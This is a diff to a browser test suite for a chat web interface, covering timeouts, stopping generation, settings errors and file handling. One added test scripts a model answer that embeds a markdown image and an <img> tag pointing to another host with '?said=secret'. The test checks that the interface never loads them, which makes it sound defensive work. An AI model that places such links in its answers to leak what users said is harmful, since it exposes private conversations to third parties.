@@ -7,7 +7,7 @@ from __future__ import annotations
 
 import base64
 import re
-import time
+import socket
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -16,10 +16,11 @@ from PIL import Image
 
 from tests.app.chat_fakes import AFTER_CALLS, CALL, CALLS, CHROMIUM, END, THOUGHT, TOOLS
 from tests.app.chat_server import Site, serve
+from tests.timing import until
 
 sync_api = pytest.importorskip("playwright.sync_api")
 pytest.importorskip("gradio")
-sync_api.expect.set_options(timeout=20_000)
+sync_api.expect.set_options(timeout=60_000)
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -41,7 +42,9 @@ FLAGS = (
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
     with sync_api.sync_playwright() as playwright:
-        running = playwright.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS))
+        running = playwright.chromium.launch(
+            executable_path=CHROMIUM, args=list(FLAGS), timeout=120_000
+        )
         yield running
         running.close()
 
@@ -55,20 +58,21 @@ def demo_site() -> Iterator[Site]:
 
 @pytest.fixture(scope="module")
 def scripted_site() -> Iterator[Site]:
-    """Answers ``Red.``; to a greeting 1500 words, fifty a second; to a puzzle with a tool call."""
+    """Answers ``Red.`` and the question's number; to a greeting 1500 words, fifty tokens a second;
+    to a puzzle with a tool call."""
     by_word = {
         "Hello": "word " * 1500 + END,
         "says so": "Red." + END,
         "Puzzle": "Let me look." + CALLS + CALL + AFTER_CALLS,
     }
-    with serve("Red." + END, delay=0.02, by_word=by_word) as site:
+    with serve("Red. (#)" + END, delay=0.02, by_word=by_word) as site:
         yield site
 
 
 @pytest.fixture
 def visit(browser: Browser) -> Iterator[Callable[..., Page]]:
-    """Open a tab; at the end it must not have asked any other host for anything."""
-    contexts, strangers = [], []
+    """Open a tab; at the end it must not have failed, or asked any other host for anything."""
+    contexts, strangers, failures = [], [], []
 
     def note(request: Any) -> None:
         if not request.url.startswith(("http://127.0.0.1:", "data:", "blob:")):
@@ -76,10 +80,11 @@ def visit(browser: Browser) -> Iterator[Callable[..., Page]]:
 
     def open_tab(site: Site, **options: Any) -> Page:
         context = browser.new_context(**{"viewport": {"width": 1280, "height": 800}, **options})
-        context.set_default_timeout(20_000)
+        context.set_default_timeout(60_000)
         contexts.append(context)
         page = context.new_page()
         page.on("request", note)
+        page.on("pageerror", lambda failure: failures.append(failure))
         page.goto(site.url)
         page.wait_for_selector("#k3-box textarea")
         return page
@@ -88,6 +93,7 @@ def visit(browser: Browser) -> Iterator[Callable[..., Page]]:
     for context in contexts:
         context.close()
     assert strangers == []
+    assert failures == []
 
 
 def attach(page: Page, *paths: Path) -> None:
@@ -111,11 +117,8 @@ def question_back(page: Page, text: str) -> None:
     sync_api.expect(page.locator("#k3-box textarea")).to_have_value(text)
 
 
-def wait_idle(site: Site) -> dict[str, Any]:
-    deadline = time.monotonic() + 10
-    while (state := site.state())["running"] and time.monotonic() < deadline:
-        time.sleep(0.05)
-    return state
+def wait_idle(site: Site) -> None:
+    until(lambda: not site.state()["running"])
 
 
 def test_a_picture_thinking_a_clip_and_a_bad_file(
@@ -154,7 +157,7 @@ def test_a_picture_thinking_a_clip_and_a_bad_file(
     ask(page, "What is this?")
     # The chat goes on without the bad file. Of a picture this late in a conversation the demo model
     # often names something from before (docs/demo); that it is an answer is what counts here.
-    answer(page, re.compile(r"^\s*An? \w+\."))
+    answer(page, re.compile(r"^(?!.*left out).*\w\."))
     sync_api.expect(page.locator("#k3-seen img")).to_have_count(1)
 
 
@@ -186,7 +189,7 @@ def test_stop_ends_the_generation(scripted_site: Site, visit: Callable[..., Page
     sync_api.expect(page.locator("#k3-figures")).to_contain_text("~")
     page.locator("#k3-box .stop-button").click()
     answer(page, "Stopped.")
-    assert wait_idle(scripted_site)["running"] == []
+    wait_idle(scripted_site)
     sync_api.expect(page.locator("#k3-chat .bot.message").first).to_contain_text("word word")
     page.get_by_role("button", name="New chat").click()
     sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(0)
@@ -198,7 +201,7 @@ def test_a_closed_tab_ends_the_generation(scripted_site: Site, visit: Callable[.
     sync_api.expect(page.locator("#k3-chat .bot.message").last).to_contain_text("word word")
     assert scripted_site.state()["running"]
     page.close(run_before_unload=False)
-    assert wait_idle(scripted_site)["running"] == []
+    wait_idle(scripted_site)
 
 
 def test_retry_edit_and_undo_keep_the_files(
@@ -209,10 +212,7 @@ def test_retry_edit_and_undo_keep_the_files(
     before = scripted_site.state()["count"]
 
     def asked(times: int, text: str) -> None:
-        deadline = time.monotonic() + 10
-        while scripted_site.state()["count"] < before + times and time.monotonic() < deadline:
-            time.sleep(0.05)
-        answer(page, "Red.")
+        answer(page, f"Red. ({before + times - 1})")
         state = scripted_site.state()
         assert state["count"] == before + times
         assert state["asked"].count("<|media_begin|>") == 1
@@ -257,6 +257,59 @@ def test_a_tool_call_is_a_card_and_its_result_continues_the_answer(
     answer(page, "Red.")
     assert "a small animal" in scripted_site.state()["asked"]
     sync_api.expect(field).not_to_be_visible()
+
+
+def test_an_answer_cannot_make_the_browser_ask_others(visit: Callable[..., Page]) -> None:
+    """A picture of another host in an answer would tell it what was said."""
+    with socket.create_server(("127.0.0.1", 0)) as other:
+        host = f"http://127.0.0.1:{other.getsockname()[1]}"
+        script = f"Well. ![it]({host}/?said=secret) <img src='{host}/html'> There."
+        with serve(script + END) as site:
+            page = visit(site)
+            ask(page, "Hello")
+            answer(page, "There.")
+            picture = page.locator("#k3-chat .bot.message img").last
+            page.wait_for_function("image => image.complete", arg=picture.element_handle())
+            assert picture.evaluate("image => image.naturalWidth") == 0
+            other.settimeout(0.5)
+            with pytest.raises(TimeoutError):
+                other.accept()
+
+
+def test_wrong_settings_are_said_and_change_nothing(
+    scripted_site: Site, visit: Callable[..., Page]
+) -> None:
+    page = visit(scripted_site)
+    before = scripted_site.state()["count"]
+    ask(page, "Which colour?")
+    answer(page, f"Red. ({before})")
+    page.get_by_role("button", name="Settings").click()
+    page.get_by_label("Seed").fill("abc")
+    page.get_by_role("button", name="Toggle Sidebar").click()
+    ask(page, "And now?")
+    toast = page.locator(".toast-wrap")
+    sync_api.expect(toast).to_contain_text("The seed must be a whole number, not 'abc'.")
+    sync_api.expect(page.locator("#k3-chat .error")).to_have_count(0)
+    sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(1)
+    question_back(page, "And now?")
+    page.get_by_role("button", name="Settings").click()
+    page.get_by_label("Seed").fill("5")
+    page.get_by_role("button", name="Toggle Sidebar").click()
+    page.locator("#k3-box .submit-button").click()
+    answer(page, f"Red. ({before + 1})")
+
+
+def test_an_empty_box_sends_nothing_and_goes_on(
+    scripted_site: Site, visit: Callable[..., Page]
+) -> None:
+    page = visit(scripted_site)
+    before = scripted_site.state()["count"]
+    for text in ("", "  "):
+        ask(page, text)
+        page.wait_for_timeout(500)
+    ask(page, "Which colour?")
+    answer(page, f"Red. ({before})")
+    sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(1)
 
 
 DROP = """([selector, kind, name, type, base64]) => {
@@ -317,10 +370,11 @@ def test_an_older_turn_is_selected_to_see_what_the_model_saw(
         Image.new("RGB", size, "red").save(tmp_path / name)
     page = visit(scripted_site)
     facts = page.locator("#k3-facts")
-    for name in ("one.png", "two.png"):
+    before = scripted_site.state()["count"]
+    for number, name in enumerate(("one.png", "two.png"), start=before):
         attach(page, tmp_path / name)
         ask(page, f"Which is {name[:3]}?")
-        answer(page, "Red.")
+        answer(page, f"Red. ({number})")
         sync_api.expect(facts).to_contain_text(name)
     page.get_by_text("Which is one?").click()
     sync_api.expect(facts).to_contain_text("56 \u00d7 28 px")
@@ -351,4 +405,4 @@ def test_an_endpoint_answers_thinks_and_is_stopped(visit: Callable[..., Page]) -
         assert site.state()["running"]
         page.locator("#k3-box .stop-button").click()
         answer(page, "Stopped.")
-        assert wait_idle(site)["running"] == []
+        wait_idle(site)
